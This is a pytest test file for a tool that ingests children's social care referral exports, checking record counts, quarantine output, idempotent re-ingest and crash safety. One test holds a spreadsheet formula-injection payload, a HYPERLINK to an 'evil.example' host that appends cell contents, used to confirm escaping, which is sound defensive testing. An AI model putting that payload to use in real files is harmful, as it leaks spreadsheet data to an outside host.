"""Loading: counts reconcile, nothing is lost, re-ingest is idempotent, interruption changes nothing."""

from __future__ import annotations

import csv
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from contextsafe.ingest import ingest_file
from contextsafe.store import Workspace
from tests.ingest.conftest import table
from tests.ingest.factories import ROWS, csv_text, write_export, write_mapping

STORE_TABLES = ("records", "events", "participants", "concern_flags", "associations", "ingests", "sources")


def _snapshot(ws: Workspace) -> dict[str, list[tuple]]:
    return {t: sorted(map(repr, table(ws, f"SELECT * FROM {t}"))) for t in STORE_TABLES}


def test_canonical_rows_keep_their_source_roles_and_concerns(tmp_path: Path, workspace) -> None:
    report = ingest_file(workspace, write_mapping(tmp_path), write_export(tmp_path))
    assert report.reconciles and report.accepted == 3
    assert table(workspace, "SELECT DISTINCT source FROM records") == [("csc_referrals",)]
    assert table(workspace, "SELECT record_id, role FROM participants ORDER BY 1") == [
        ("A1", "subject"), ("A2", "subject"), ("A3", "subject")]
    assert table(workspace, "SELECT record_id, concern, source_code FROM concern_flags ORDER BY 1, 2") == [
        ("A1", "cse", "CSE"), ("A1", "missing_from_home", "MFH"), ("A2", "gang_association", "GANG")]
    assert table(workspace, "SELECT record_id, context_kind, context_ref FROM associations ORDER BY 1") == [
        ("A1", "school", "Acland Burghley School"), ("A3", "school", "Camden School for Girls")]
    assert table(workspace, "SELECT postcode, sex FROM records WHERE record_id = 'A1'") == [("NW1 8NN", "female")]
    source = table(workspace, "SELECT legal_basis, information_sharing_agreement, permitted_purposes, "
                              "retention_days FROM sources")
    assert source[0][1] == "ISA-CAM-2018-01" and source[0][2] == ["assessment", "profiling"]


def test_quarantine_file_names_file_row_column_and_reason(tmp_path: Path, workspace) -> None:
    rows = [ROWS[0], [*ROWS[1][:3], "31/13/2004", *ROWS[1][4:]], ROWS[2]]
    report = ingest_file(workspace, write_mapping(tmp_path), write_export(tmp_path, csv_text(rows)))
    assert (report.rows_in, report.accepted, report.quarantined) == (3, 2, 1)
    with open(report.quarantine_file, encoding="utf-8-sig", newline="") as handle:
        quarantined = list(csv.DictReader(handle))
    assert quarantined[0]["file"] == "export.csv" and quarantined[0]["row"] == "3"
    assert quarantined[0]["rules"] == "R002" and "column DOB" in quarantined[0]["reasons"]
    assert quarantined[0]["Ref"] == "A2"  # the original row is kept whole
    assert table(workspace, "SELECT rows_in, accepted, quarantined FROM ingests") == [(3, 2, 1)]


def test_formula_injection_is_escaped_in_the_quarantine_file(tmp_path: Path, workspace) -> None:
    rows = [["A5", '=HYPERLINK("http://evil.example/?"&A1,"x")', "Smith", "01/02/2004", "X", "NW1 8NN",
             "03/03/2018", "", "@SUM(1)"]]
    report = ingest_file(workspace, write_mapping(tmp_path), write_export(tmp_path, csv_text(rows)))
    text = Path(report.quarantine_file).read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'@SUM(1)" in text
    assert ',=HYPERLINK' not in text and ',"=HYPERLINK' not in text


def test_reingesting_the_same_file_is_idempotent(tmp_path: Path, workspace) -> None:
    loaded, path = write_mapping(tmp_path), write_export(tmp_path)
    first = ingest_file(workspace, loaded, path)
    before = _snapshot(workspace)
    second = ingest_file(workspace, loaded, path)
    assert second.skipped and second.accepted == first.accepted
    assert second.quarantine_file == first.quarantine_file
    assert _snapshot(workspace) == before


def test_an_overlapping_export_updates_rows_instead_of_duplicating(tmp_path: Path, workspace) -> None:
    loaded = write_mapping(tmp_path)
    ingest_file(workspace, loaded, write_export(tmp_path, name="march.csv"))
    changed = [list(ROWS[0]), ["A4", "Tia", "Brown", "05/05/2005", "F", "NW3 2YP", "07/04/2018", "HSB", ""]]
    changed[0][5] = "NW5 2AA"  # the young person moved
    loaded = write_mapping(tmp_path, concerns={"columns": ["Reason"], "separator": ";",
                                               "codes": {"CSE": "cse", "MFH": "missing_from_home", "HSB": "hsb"}})
    ingest_file(workspace, loaded, write_export(tmp_path, csv_text(changed), name="april.csv"))
    assert table(workspace, "SELECT count(*) FROM records") == [(4,)]
    assert table(workspace, "SELECT postcode FROM records WHERE record_id = 'A1'") == [("NW5 2AA",)]
    assert table(workspace, "SELECT count(*) FROM concern_flags WHERE record_id = 'A1'") == [(2,)]


def test_an_exception_midway_leaves_the_workspace_as_it_was(tmp_path: Path, workspace, monkeypatch) -> None:
    ingest_file(workspace, write_mapping(tmp_path), write_export(tmp_path))
    before = _snapshot(workspace)
    monkeypatch.setattr("contextsafe.ingest.reading.CHUNK_ROWS", 2)
    big = [[f"B{i}", "Al", "Jones", "01/02/2004", "M", "NW1 8NN", "03/03/2018", "CSE", ""] for i in range(10)]
    loaded = write_mapping(tmp_path, name="other.yaml", source="yos_caseload")
    calls = []

    def interrupt(done: int, _total: int) -> None:
        calls.append(done)
        if len(calls) == 3:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        ingest_file(workspace, loaded, write_export(tmp_path, csv_text(big), name="big.csv"), progress=interrupt)
    assert _snapshot(workspace) == before
    assert not list((workspace.quarantine_dir).rglob("*.partial"))


@pytest.mark.slow
def test_a_killed_ingest_process_leaves_the_workspace_as_it_was(tmp_path: Path, workspace) -> None:
    loaded = write_mapping(tmp_path)
    ingest_file(workspace, loaded, write_export(tmp_path))
    before = _snapshot(workspace)
    rows = [[f"K{i}", "Al", "Jones", "01/02/2004", "M", "NW1 8NN", "03/03/2018", "CSE", ""] for i in range(120_000)]
    big = write_export(tmp_path, csv_text(rows), name="big.csv")
    other = write_mapping(tmp_path, name="other.yaml", source="yos_caseload")
    script = textwrap.dedent(f"""
        import os, signal
        from contextsafe.ingest import ingest_file
        from contextsafe.sources import load_mapping
        from contextsafe.store import Workspace
        def die(done, total):
            if done >= 100_000:
                os.kill(os.getpid(), signal.SIGKILL)
        ingest_file(Workspace.open({str(workspace.root)!r}), load_mapping({str(other.path)!r}), {str(big)!r},
                    progress=die)
    """)
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, timeout=300)
    assert result.returncode == -9, result.stderr.decode()[-2000:]
    assert _snapshot(workspace) == before
